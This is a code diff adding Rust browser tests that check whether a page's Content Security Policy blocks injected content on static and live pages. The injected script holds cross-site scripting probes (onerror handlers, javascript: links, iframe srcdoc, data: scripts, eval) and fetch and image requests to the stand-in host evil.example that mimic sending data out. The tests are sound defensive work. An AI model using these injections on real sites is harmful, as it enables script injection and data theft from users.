@@ -148,3 +148,62 @@ fn a_live_page_runs_nothing_of_it() {
         );
     });
 }
+
+/// The second wall: what would run if the first one had a hole.
+async fn assert_policy_holds(browser: &Browser) {
+    let script = "
+        const done = arguments[arguments.length - 1];
+        const put = html => document.body.insertAdjacentHTML('beforeend', html);
+        put('<img src=x onerror=\"window.pwned = 1\"><img src=\"https://evil.example/x.png\">');
+        put('<iframe srcdoc=\"<script>parent.pwned = 1</script>\"></iframe><a id=go href=\"javascript:window.pwned=1\">go</a>');
+        put('<style>main { display: none }</style><link rel=stylesheet href=\"https://evil.example/x.css\">');
+        put('<p id=red style=\"color: rgb(1, 2, 3)\">red</p><base href=\"https://evil.example/\">');
+        put('<form id=form action=\"https://evil.example/\" target=_blank><input name=a></form>');
+        for (const source of [null, 'https://evil.example/x.js', 'data:text/javascript,window.pwned=1']) {
+            const script = document.createElement('script');
+            if (source) script.src = source; else script.textContent = 'window.pwned = 1';
+            document.body.append(script);
+        }
+        document.querySelector('#go').click();
+        document.querySelector('#form').submit();
+        // What DevTools run may use eval; what they leave behind may not.
+        setTimeout(() => window.eval('window.pwned = 1'));
+        const sent = [
+            fetch('https://evil.example/?leak', {mode: 'no-cors'}),
+            new Promise((fine, refused) => { const it = new Image(); it.onload = fine; it.onerror = refused; it.src = 'https://evil.example/y.png'; }),
+        ];
+        Promise.allSettled(sent).then(all => setTimeout(() => done(all.map(it => it.status)), 50));";
+    let sent = browser.run_async(script).await;
+    assert_eq!(sent, json!(["rejected", "rejected"]));
+    assert_eq!(browser.eval("typeof window.pwned").await, "undefined");
+    assert_eq!(browser.eval(&shown("main")).await, true);
+    let colour = "getComputedStyle(document.querySelector('#red')).color";
+    assert_ne!(browser.text(colour).await, "rgb(1, 2, 3)");
+    let base = browser.text("document.baseURI").await;
+    assert!(!base.contains("evil"), "{base}");
+    let complaints = browser.complaints().await.join("\n");
+    assert!(
+        complaints.contains("Content Security Policy"),
+        "{complaints}"
+    );
+}
+
+#[test]
+fn the_policy_of_a_static_page_holds_by_itself() {
+    let site = Site::with("# A\n\n- [ ] b\n");
+    browse(async |browser| {
+        for address in [site.file(), site.address()] {
+            browser.goto(&address).await;
+            assert_policy_holds(browser).await;
+        }
+    });
+}
+
+#[test]
+fn the_policy_of_a_live_page_holds_by_itself() {
+    let live = Live::with("# A\n\n- [ ] b\n");
+    browse(async |browser| {
+        browser.goto(&live.address()).await;
+        assert_policy_holds(browser).await;
+    });
+}
